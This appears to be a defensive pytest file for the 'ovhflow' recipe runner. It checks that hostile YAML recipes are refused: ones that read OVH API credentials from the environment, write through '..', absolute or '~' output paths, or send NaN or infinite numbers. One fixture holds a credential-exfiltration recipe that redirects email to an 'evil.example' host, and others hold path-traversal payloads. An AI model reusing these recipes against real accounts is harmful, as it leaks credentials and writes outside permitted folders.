"""A hostile recipe or params file through the real ``ovhflow run`` (subprocess, sandbox over HTTP): it
cannot read a credential from the environment, write outside the output folder through a templated path, open
more than 256 requests at once, or put NaN/Infinity on the wire."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.cli_invoke import invoke_ovhflow

STEAL_BY_NAME = """\
name: steal
inputs:
  stolen: {{type: string, env: {variable}}}
steps:
  - get: /me
  - post: /email/domain/example.com/redirection
    body: {{from: "x@example.com", to: "{{{{ inputs.stolen | reverse }}}}@evil.example", localCopy: false}}
"""

NOTIFY_STEAL = """\
name: notify steal
notify:
  when: always
  email: {to: ops@example.com, host: 127.0.0.1, port: 9, username: u, password_env: OVH_APPLICATION_SECRET}
steps:
  - get: /me
"""


def _env(sandbox, isolated, **extra: str) -> dict[str, str]:
    return {**isolated, **sandbox.env(), **extra}


def _run(recipe: Path, env: dict[str, str], *args: str):
    result = invoke_ovhflow("run", str(recipe), *args, env=env, cwd=recipe.parent)
    assert "Traceback" not in result.stderr, result.stderr
    return result


CREDENTIAL_VARIABLES = [
    "OVH_APPLICATION_SECRET", "OVH_CONSUMER_KEY", "OVH_CLIENT_SECRET", "OVH_APPLICATION_KEY", "OVH_CLIENT_ID",
]  # fmt: skip


@pytest.mark.parametrize(
    "variable",
    CREDENTIAL_VARIABLES,
)
def test_an_input_cannot_read_a_credential_variable(sandbox, isolated, write_recipe, variable):
    recipe = write_recipe(STEAL_BY_NAME.format(variable=variable))
    env = _env(sandbox, isolated, OVH_CLIENT_SECRET="c" * 32, OVH_CLIENT_ID="client-id-1234")
    result = _run(recipe, env)
    assert result.returncode == 2, result.stderr
    assert f"{recipe}:3:" in result.stderr and f"${variable} holds an OVH API credential" in result.stderr
    assert sandbox.journal == []  # refused before any request
    validated = invoke_ovhflow("validate", str(recipe), env=env, cwd=recipe.parent)
    assert validated.returncode == 2 and "holds an OVH API credential" in validated.stderr


def test_an_input_cannot_read_a_variable_holding_a_credential_under_another_name(
    sandbox, isolated, write_recipe
):
    recipe = write_recipe(STEAL_BY_NAME.format(variable="INNOCENT_LOOKING"))
    secret = sandbox.credentials["application_secret"]
    for value in (secret, f"prefix-{secret}-suffix"):
        result = _run(recipe, _env(sandbox, isolated, INNOCENT_LOOKING=value))
        assert result.returncode == 2, result.stderr
        assert f"{recipe}:3:" in result.stderr
        assert "$INNOCENT_LOOKING holds an OVH API credential" in result.stderr
        assert secret not in result.stderr + result.stdout
    assert sandbox.journal == []
    fine = _run(recipe, _env(sandbox, isolated, INNOCENT_LOOKING="harmless"))
    assert fine.returncode == 0, fine.stderr  # any other variable is read as before


def test_a_credential_held_only_in_an_ovh_conf_is_refused_by_value(sandbox, isolated, write_recipe, tmp_path):
    recipe = write_recipe(STEAL_BY_NAME.format(variable="COPY"))
    config = tmp_path / "other.conf"
    config.write_text("[ovh-ca]\napplication_key=k\napplication_secret=another-account-secret-0123456789\n")
    config.chmod(0o600)
    env = _env(sandbox, isolated, COPY="another-account-secret-0123456789")
    result = _run(recipe, env, "--config", str(config))
    assert result.returncode == 2, result.stderr
    assert "$COPY holds an OVH API credential" in result.stderr and sandbox.journal == []


def test_notify_password_env_cannot_name_a_credential(sandbox, isolated, write_recipe):
    recipe = write_recipe(NOTIFY_STEAL)
    result = _run(recipe, _env(sandbox, isolated))
    assert result.returncode == 2, result.stderr
    assert f"{recipe}:4:" in result.stderr and "notify.email.password_env" in result.stderr
    assert sandbox.journal == []


def test_notify_reads_its_password_only_through_the_guard(monkeypatch):
    from ovhflow_plugins.notify import NotificationFailed, _password

    monkeypatch.setenv("OVH_CONSUMER_KEY", "consumer-key-of-the-account-0001")
    monkeypatch.setenv("SMTP_PASSWORD", "consumer-key-of-the-account-0001")
    for variable in ("OVH_CONSUMER_KEY", "SMTP_PASSWORD"):  # by name, then by value
        with pytest.raises(NotificationFailed, match="holds an OVH API credential"):
            _password({"password_env": variable})
    monkeypatch.setenv("SMTP_PASSWORD", "smtp-only")
    assert _password({"password_env": "SMTP_PASSWORD"}) == "smtp-only"


CSV_FROM_API = """\
name: export named after the account
steps:
  - id: me
    get: /me
  - csv:
      path: "exports/{{ steps.me.result.firstname }}.csv"
      rows: [1]
      columns: {n: "{{ row }}"}
  - get: /me/bill
"""

JSON_FROM_INPUT = """\
name: json named by an input
inputs:
  name: {type: string}
steps:
  - json: {data: [1], path: "exports/{{ inputs.name }}.json"}
  - get: /me
"""


def test_a_templated_output_path_cannot_climb_out_of_its_folder(sandbox, isolated, write_recipe, tmp_path):
    (tmp_path / "exports").mkdir()
    sandbox.state["me"]["firstname"] = "../../escaped"
    recipe = write_recipe(CSV_FROM_API)
    result = _run(recipe, _env(sandbox, isolated))
    assert result.returncode == 1, result.stderr
    assert f"{recipe}:6:13: csv: path 'exports/../../escaped.csv' has a '..' segment" in result.stderr
    assert not (tmp_path.parent / "escaped.csv").exists() and list((tmp_path / "exports").iterdir()) == []
    assert [entry["path"] for entry in sandbox.journal] == ["/auth/time", "/me"]  # nothing after it
    by_input = write_recipe(JSON_FROM_INPUT, "json.yaml")
    refused = _run(by_input, _env(sandbox, isolated), "-p", "name=../escaped")
    assert refused.returncode == 1 and f"{by_input}:5:" in refused.stderr and "'..' segment" in refused.stderr
    assert not (tmp_path / "escaped.json").exists()
    sandbox.state["me"]["firstname"] = "Alice"
    assert _run(recipe, _env(sandbox, isolated)).returncode == 0
    assert (tmp_path / "exports" / "Alice.csv").read_bytes() == b"n\r\n1\r\n"


CSV_NAMED_BY_API = CSV_FROM_API.replace("exports/{{", "{{")
JSON_NAMED_BY_API = """\
name: json named by the API
steps:
  - id: me
    get: /me
  - json: {data: [1], path: "{{ steps.me.result.firstname }}.json"}
  - get: /me/bill
"""


def _in_process(recipe: Path, env: dict[str, str], *args: str):
    result = invoke_ovhflow("run", str(recipe), *args, env=env, cwd=recipe.parent)
    assert "Traceback" not in result.stderr, result.stderr
    return result


def test_data_cannot_make_a_templated_output_path_absolute_or_home_relative(
    sandbox, isolated, write_recipe, tmp_path
):
    outside = tmp_path / "outside"
    outside.mkdir()
    (tmp_path / "~").mkdir()
    recipe = write_recipe(CSV_NAMED_BY_API)
    for name, shown in ((f"{outside}/evil", "is absolute"), ("~/evil", "starts with '~'")):
        sandbox.state["me"]["firstname"] = name
        result = _in_process(recipe, _env(sandbox, isolated))
        assert result.returncode == 1, result.stderr
        assert f"{recipe}:6:13: csv: path '{name}.csv' {shown}" in result.stderr
        assert "an output path is relative to the output folder" in result.stderr
    rooted = "{{ '/' }}" + str(outside)[1:] + "/x"  # '/' comes from a value, not from the literal text
    root_by_template = write_recipe(
        CSV_FROM_API.replace("exports/{{ steps.me.result.firstname }}", rooted), "r.yaml"
    )
    result = _in_process(root_by_template, _env(sandbox, isolated))
    assert result.returncode == 1 and f"{root_by_template}:6:13: csv: path '{outside}/x.csv' is absolute" in (
        result.stderr
    )
    sandbox.state["me"]["firstname"] = f"{outside}/evil"
    json_named = write_recipe(JSON_NAMED_BY_API, "j.yaml")
    refused = _in_process(json_named, _env(sandbox, isolated))
    assert (
        refused.returncode == 1 and f"{json_named}:5:" in refused.stderr and "is absolute" in refused.stderr
    )
    assert list(outside.iterdir()) == [] and list((tmp_path / "~").iterdir()) == []
    assert all(entry["path"] != "/me/bill" for entry in sandbox.journal)  # each run stopped at the csv


def test_an_absolute_output_folder_is_the_operators_output_dir_not_the_recipes(
    sandbox, isolated, write_recipe, tmp_path
):
    exports = tmp_path / "srv" / "exports"
    (exports / "sub").mkdir(parents=True)
    literal = write_recipe(CSV_FROM_API.replace("exports/{{ steps.me.result.firstname }}", f"{exports}/all"))
    refused = _in_process(literal, _env(sandbox, isolated))
    assert refused.returncode == 2 and f"{literal}:6:13: csv: path '{exports}/all.csv' is absolute" in (
        refused.stderr
    )
    assert list((exports / "sub").iterdir()) == [] and sandbox.journal == []  # before any request
    sandbox.state["me"]["firstname"] = "sub/Alice"
    templated = write_recipe(CSV_FROM_API.replace("exports/{{", "{{"), "templated.yaml")
    assert _in_process(templated, _env(sandbox, isolated), "--output-dir", str(exports)).returncode == 0
    assert (exports / "sub" / "Alice.csv").read_bytes() == b"n\r\n1\r\n"
    chosen_by_the_run = write_recipe(JSON_FROM_INPUT.replace("exports/{{", "{{"), "json.yaml")
    by_input = _in_process(chosen_by_the_run, _env(sandbox, isolated), "-p", f"name={exports}/from-p")
    assert by_input.returncode == 1 and "is absolute" in by_input.stderr  # a params file is not trusted
    given = _in_process(
        chosen_by_the_run, _env(sandbox, isolated), "-p", "name=from-p", "--output-dir", str(exports)
    )
    assert given.returncode == 0 and (exports / "from-p.json").read_text() == "[\n  1\n]\n"
    sandbox.state["me"]["firstname"] = "sub/../../evil"
    climbing = _in_process(templated, _env(sandbox, isolated), "--output-dir", str(exports))
    assert climbing.returncode == 1 and "has a '..' segment" in climbing.stderr
    assert not (tmp_path / "evil.csv").exists()


TEMPLATED_CONCURRENCY = """\
name: templated concurrency
inputs:
  c: {type: integer}
steps:
  - id: servers
    get: /dedicated/server
  - loop: "{{ steps.servers.result }}"
    concurrency: "{{ inputs.c }}"
    get: /dedicated/server/{{ item }}
"""


@pytest.mark.parametrize("value", ["0", "1000", "-3"])
def test_a_templated_concurrency_is_checked_once_rendered(sandbox, isolated, write_recipe, value):
    recipe = write_recipe(TEMPLATED_CONCURRENCY)
    result = _run(recipe, _env(sandbox, isolated), "-p", f"c={value}")
    assert result.returncode == 1, result.stderr
    assert f"{recipe}:8:18: concurrency: {value} is not a whole number from 1 to 256" in result.stderr
    assert [e["path"] for e in sandbox.journal] == ["/auth/time", "/dedicated/server"]  # no item was read


def test_a_templated_concurrency_in_range_runs(sandbox, isolated, write_recipe):
    result = _run(write_recipe(TEMPLATED_CONCURRENCY), _env(sandbox, isolated), "-p", "c=4")
    assert result.returncode == 0, result.stderr


NUMBERS_ON_THE_WIRE = """\
name: numbers on the wire
inputs:
  n: {type: number, default: 1}
  extra: {type: object, default: {}}
steps:
  - id: servers
    get: /dedicated/server
  - put: /dedicated/server/{{ steps.servers.result[0] }}/burst
    body: {status: active, weight: "{{ inputs.n * 1e308 * 10 }}"}
"""

QUERY_INFINITY = """\
name: query infinity
steps:
  - get: /me/bill
    query: {limit: "{{ 1e308 * 10 }}"}
"""


def test_nan_and_infinity_never_reach_the_wire(sandbox, isolated, write_recipe):
    env = _env(sandbox, isolated)
    recipe = write_recipe(NUMBERS_ON_THE_WIRE)
    body = _run(recipe, env)
    assert body.returncode == 1 and f"{recipe}:9:11: body: weight is NaN or infinite" in body.stderr
    query = write_recipe(QUERY_INFINITY, "query.yaml")
    refused = _run(query, env)
    assert refused.returncode == 1 and f"{query}:4:12: query: limit is NaN or infinite" in refused.stderr
    checked = _run(recipe, env, "--check")  # not even planned
    assert checked.returncode == 1 and "plan:" not in checked.stdout
    literal = write_recipe(NUMBERS_ON_THE_WIRE.replace('"{{ inputs.n * 1e308 * 10 }}"', ".nan"), "nan.yaml")
    at_load = _run(literal, env)
    assert at_load.returncode == 2 and f"{literal}:9:36: nan is not a number JSON can carry" in at_load.stderr
    assert [e["method"] for e in sandbox.journal if e["method"] != "GET"] == []
    assert all(e["path"] != "/me/bill" for e in sandbox.journal)


@pytest.mark.parametrize("value", ["nan", "inf", "-Infinity", "1e999", "١٢٣", "1_0.5", "１２"])
def test_a_number_param_that_is_not_plain_ascii_decimal_is_refused(sandbox, isolated, write_recipe, value):
    result = _run(write_recipe(NUMBERS_ON_THE_WIRE), _env(sandbox, isolated), "-p", f"n={value}")
    assert result.returncode == 2, result.stderr
    assert "-p n:" in result.stderr and "is not a number" in result.stderr
    assert sandbox.journal == []


def test_nan_in_a_params_file_or_an_object_param_is_refused(sandbox, isolated, write_recipe, tmp_path):
    recipe = write_recipe(NUMBERS_ON_THE_WIRE)
    params = tmp_path / "params.yaml"
    params.write_text("n: 2\nextra: {weights: [1, .inf]}\n")
    from_file = _run(recipe, _env(sandbox, isolated), "--params", str(params))
    assert from_file.returncode == 2, from_file.stderr
    assert f"{params}:2:8: params file: input 'extra': weights[1] is NaN or infinite" in from_file.stderr
    inline = _run(recipe, _env(sandbox, isolated), "-p", "extra={a: .nan}")
    assert inline.returncode == 2 and "a is NaN or infinite" in inline.stderr
    assert sandbox.journal == []


NUMBER_LOGGED = """\
name: a number
inputs:
  n: {type: number}
steps:
  - log: "n is {{ inputs.n }}"
"""


@pytest.mark.parametrize(
    ("written", "problem", "read_as"),
    [
        ("1_0.5", "has a '_'", "10.5"),
        ("1_000", "has a '_'", "1000"),
        ("0x1F", "is hexadecimal", "31"),
        ("017", "is octal (a leading 0)", "15"),
        ("0b11", "is binary", "3"),
        ("1:30", "is sexagesimal (base 60)", "90"),
    ],
)
def test_a_number_in_a_params_file_written_in_a_yaml_1_1_form_is_refused(
    sandbox, isolated, write_recipe, tmp_path, written, problem, read_as
):
    recipe = write_recipe(NUMBER_LOGGED)
    params = tmp_path / "params.yaml"
    params.write_text(f"# weights\nn:   {written}\n")
    result = _in_process(recipe, _env(sandbox, isolated), "--params", str(params))
    assert result.returncode == 2, result.stderr
    assert f"{params}:2:6: params file: input 'n': {written} {problem}, which YAML reads as {read_as}" in (
        result.stderr
    )
    assert sandbox.journal == []
    params.write_text("n: 10.5\n")  # plain decimals, as -p takes them
    fine = _in_process(recipe, _env(sandbox, isolated), "--params", str(params))
    assert fine.returncode == 0 and "n is 10.5" in fine.stderr
